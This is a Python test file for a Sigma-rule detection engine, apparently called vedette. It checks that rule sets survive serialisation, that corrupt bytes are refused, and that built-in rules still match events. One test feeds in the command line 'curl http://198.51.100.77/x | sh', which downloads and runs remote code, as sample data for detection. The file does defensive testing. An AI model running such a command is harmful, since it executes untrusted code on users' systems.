"""A rule set as bytes comes back as it was, and nothing else comes back."""

from pathlib import Path

import msgspec
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vedette.detect.sigma import dump_rules, load_rules, match, read
from vedette.model.records import Events, Logsource
from vedette.runtime.rules import BUILTIN, files, texts

SHARED = Path(__file__).parents[4] / "shared" / "data" / "sigma"

ODD = """
title: Numbers and patterns
id: 4bd3cd43-31fc-4bd9-b7a1-5b1c6f0c5a01
name: odd
logsource: {product: linux}
detection:
  a: {n|gte: 5, name|re: '^x+$', net|cidr: 192.0.2.0/24, gone: null}
  b: ['word', 'other*']
  condition: a or not b
---
title: Seldom
id: 4bd3cd43-31fc-4bd9-b7a1-5b1c6f0c5a02
correlation: {type: value_percentile, rules: [odd], timespan: 5m, group-by: [host], condition: {gte: 3, lt: 9.5, field: n, percentile: 95}}
---
title: Both
id: 4bd3cd43-31fc-4bd9-b7a1-5b1c6f0c5a03
correlation: {type: temporal_extended, rules: [odd, other], timespan: 5m, condition: odd and not other}
---
title: Other
id: 4bd3cd43-31fc-4bd9-b7a1-5b1c6f0c5a04
name: other
logsource: {product: linux}
detection: {a: {n: 1}, condition: a}
---
title: Ours
id: 4bd3cd43-31fc-4bd9-b7a1-5b1c6f0c5a05
logsource: {product: linux}
filter: {rules: [odd], own: {name: ours}, condition: not own}
---
title: Not a rule
"""


def parts(ruleset):
    return ruleset.rules, ruleset.filters, ruleset.refused


def test_what_comes_back_is_what_was_read_to_the_type_of_every_number():
    made = read([("odd.yml", ODD)])
    assert (len(made.rules), len(made.filters), len(made.refused)) == (4, 1, 1)
    back = load_rules(dump_rules(made))
    assert parts(back) == parts(made)
    assert repr(parts(back)) == repr(parts(made))


def test_the_built_in_pack_comes_back_and_matches_the_same():
    made = read(texts(map(str, files([BUILTIN]))))
    back = load_rules(dump_rules(made))
    assert repr(parts(back)) == repr(parts(made))
    line = "curl http://198.51.100.77/x | sh"
    columns = {"event.category": "process", "process.command_line": line, "process.name": "sh", "event.type": "start"}
    frame = pl.DataFrame({"line": [1], **{name: [value] for name, value in columns.items()}})
    events = Events(Logsource("process_creation", "linux", None), frame)
    assert match(back, events).height
    assert match(back, events).equals(match(made, events))


@pytest.mark.shared
@pytest.mark.skipif(not SHARED.exists(), reason="../shared is not here")
def test_public_rules_come_back():
    made = read(texts(map(str, files([SHARED / "sigma-rules"]))))
    assert len(made.rules) > 1000
    assert repr(parts(load_rules(dump_rules(made)))) == repr(parts(made))


@settings(max_examples=100, deadline=None)
@given(st.data())
def test_damage_is_an_error_or_another_rule_set_and_never_something_else(data):
    whole = bytearray(dump_rules(read([("odd.yml", ODD)])))
    for _ in range(data.draw(st.integers(1, 4))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
    cut = bytes(whole[: data.draw(st.integers(0, len(whole)))]) if data.draw(st.booleans()) else bytes(whole)
    try:
        back = load_rules(cut)
    except ValueError:
        return
    assert load_rules(dump_rules(back)).rules == back.rules


@pytest.mark.parametrize(
    "foreign",
    [b"", b"\xc0", b"\x93\x90\x90", msgspec.msgpack.encode([[], [], [], []]), b"\x93" + b"\x91" * 5000, b"\xff"],
)
def test_foreign_bytes_are_refused(foreign):
    with pytest.raises(ValueError, match=r"."):
        load_rules(foreign)


def test_a_reference_to_no_rule_is_refused():
    rules, filters, _ = parts(read([("odd.yml", ODD)]))
    for kept in ([(), filters, ()], [rules[2:3], (), ()]):
        with pytest.raises(ValueError, match="not there"):
            load_rules(msgspec.msgpack.encode(kept))
